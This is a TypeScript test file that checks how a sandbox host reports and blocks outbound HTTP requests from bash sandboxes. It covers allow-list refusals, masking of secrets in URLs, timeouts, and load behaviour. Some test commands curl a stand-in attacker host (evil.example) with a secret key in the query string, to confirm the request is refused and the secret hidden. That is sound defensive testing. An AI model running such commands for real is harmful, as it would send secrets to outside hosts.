import { monitorEventLoopDelay } from 'node:perf_hooks'
import { describe, expect, it, onTestFinished } from 'vitest'
import type { HostedSandbox, OpenConfig, SandboxEventMap, ShellHost } from '../../src/index.ts'
import { makeHost, until } from '../faults/helpers.ts'
import { startServer, type TestServer } from '../strands-shell/support/http-server.ts'
import { garbageCollector } from '../support/collector.ts'
import { levelsOrThreadAndCell } from '../support/describe-engines.ts'
import { ownFieldsOf } from '../support/event-fields.ts'
import { isFull } from '../support/tier.ts'

type Told = SandboxEventMap['egress'] | SandboxEventMap['egressEnd']

function watch(target: ShellHost | HostedSandbox): Told[] {
  const told: Told[] = []
  target.on('egress', (event) => told.push(event))
  target.on('egressEnd', (event) => told.push(event))
  return told
}

async function openBash(host: ShellHost, server: TestServer, config: OpenConfig<'bash'> = {}) {
  const sandbox = await host.open({ shell: 'bash', allowedUrls: [`${server.origin}/ok`], ...config })
  onTestFinished(() => sandbox.close())
  return sandbox
}

describe.each(levelsOrThreadAndCell)('the requests of bash sandboxes at %s', (isolation) => {
  it('are told of the sandbox that makes them: what was decided, and how each has ended', async () => {
    const server = await startServer()
    const host = makeHost({
      isolation,
      sandboxesPerCell: 2,
      ...(isolation === 'process' ? { maxCells: 1 } : {}),
    })
    const all = watch(host)
    const first = await openBash(host, server, { labels: { tenant: 'a' } })
    const second = await openBash(host, server)
    const [ofFirst, ofSecond] = [watch(first), watch(second)]
    await Promise.all([
      first.execute(`curl -s -d abc '${server.origin}/ok?key=hush'`),
      second.execute('sleep 0.05; curl -s http://evil.example/b?key=hush'),
    ])
    await until(() => all.length === 3)
    const url = `${server.origin}/ok`
    expect(ofFirst.map(ownFieldsOf)).toMatchObject([
      { allowed: true, method: 'POST', url, address: '127.0.0.1' },
      { method: 'POST', url, status: 200, sent: 3, received: 19, duration: expect.any(Number) },
    ])
    expect(ofSecond.map(ownFieldsOf)).toMatchObject([
      { allowed: false, method: 'GET', url: 'http://evil.example/b', reason: 'NOT_ALLOWED' },
    ])
    expect(ofFirst.map(({ labels, candidates }) => [labels, candidates.length])).toEqual([
      [{ tenant: 'a' }, 1],
      [{ tenant: 'a' }, 1],
    ])
    expect(JSON.stringify(all)).not.toContain('hush')
    expect(new Set(all.map(({ sandbox }) => sandbox)).size).toBe(2)
  })

  it('hide secrets in paths', async () => {
    const server = await startServer()
    const host = makeHost({ isolation })
    const all = watch(host)
    const sandbox = await openBash(host, server)
    await sandbox.execute(`curl -s '${server.origin}/ok/'"$TOKEN"`, { secretEnv: { TOKEN: 'hush' } })
    await until(() => all.length === 2)
    expect(all.map(({ url }) => url)).toEqual([`${server.origin}/ok/***`, `${server.origin}/ok/***`])
  })
})

it('requests of a bash sandbox are told however long their address is, with encoded secrets hidden, and why they were given up', async () => {
  const server = await startServer((request, response) => {
    if (request.url !== '/ok/slow') response.end('hello')
  })
  const host = makeHost({ isolation: 'shared' })
  const all = watch(host)
  const sandbox = await openBash(host, server)
  await sandbox.execute('curl -s "http://evil.example/$(printf %020000d 0)"')
  await until(() => all.length === 1)
  expect(all[0]).toMatchObject({ allowed: false, url: expect.stringMatching(/^http:\/\/evil\.example\/0+$/) })
  await sandbox.execute(`curl -s '${server.origin}/ok/p%20%71'; curl -s http://Hush.example/`, {
    secretEnv: { TOKEN: 'p q', OTHER: 'Hush' },
  })
  await until(() => all.length === 4)
  expect(all.slice(1).map(({ url }) => url)).toEqual([
    `${server.origin}/ok/***`,
    `${server.origin}/ok/***`,
    'http://***.example/',
  ])
  await sandbox.execute(`curl -s -m 0.2 '${server.origin}/ok/slow'`)
  await until(() => all.length === 6)
  expect(all[5]).toMatchObject({ kind: 'egressEnd', reason: 'TOTAL_TIMEOUT' })
})

it('requests of Strands Shell are told of the sandbox whose command runs in the cell; of several, as candidates', async () => {
  const server = await startServer()
  const host = makeHost({ isolation: 'process', maxCells: 1, sandboxesPerCell: 2 })
  const all = watch(host)
  const config = { allowedUrls: [`${server.origin}/`], timeout: 5 }
  const [first, second] = await Promise.all([host.open(config, { id: 'a' }), host.open(config, { id: 'b' })])
  const [ofFirst, ofSecond] = [watch(first), watch(second)]
  await first.execute(`curl -s ${server.origin}/1`)
  await until(() => all.length === 2)
  expect(all.map(({ id, candidates }) => [id, candidates.map((each) => each.id)])).toEqual([
    ['a', ['a']],
    ['a', ['a']],
  ])
  const busy = second.execute('sleep 1')
  await until(() => host.stats().running === 1)
  await first.execute(`curl -s ${server.origin}/2`)
  await until(() => all.length === 4)
  await busy
  expect(
    all.slice(2).map(({ id, sandbox, candidates }) => [id, sandbox, candidates.map((each) => each.id)]),
  ).toEqual([
    [undefined, 0, ['a', 'b']],
    [undefined, 0, ['a', 'b']],
  ])
  expect([ofFirst.length, ofSecond.length]).toEqual([2, 0])
})

it.runIf(isFull).each(['worker', 'process'] as const)(
  '10,000 refused requests stall no event loop and leave nothing behind (%s)',
  { timeout: 300_000 },
  async (isolation) => {
    const host = makeHost({ isolation })
    const sandbox = await host.open({ shell: 'bash', allowedUrls: ['http://a.example/'], timeout: 300 })
    const secretEnv = { TOKEN: 'hush-hush' }
    const request = (path: string) => sandbox.execute(`curl -s http://no.example/${path}`, { secretEnv })
    let told = 0
    host.on('egress', () => {
      told += 1
    })
    await request('')
    const collect = garbageCollector()
    collect()
    const before = process.memoryUsage().heapUsed
    const delay = monitorEventLoopDelay({ resolution: 5 })
    delay.enable()
    const path = `$i${'a%20'.repeat(500)}`
    const flood = `for ((i = 0; i < 10000; i++)); do curl -s http://no.example/${path}; done`
    await sandbox.execute(flood, { secretEnv })
    delay.disable()
    await until(() => told === 10_001)
    collect()
    expect(delay.max / 1e6).toBeLessThan(2000)
    expect((process.memoryUsage().heapUsed - before) / 2 ** 20).toBeLessThan(10)
  },
)
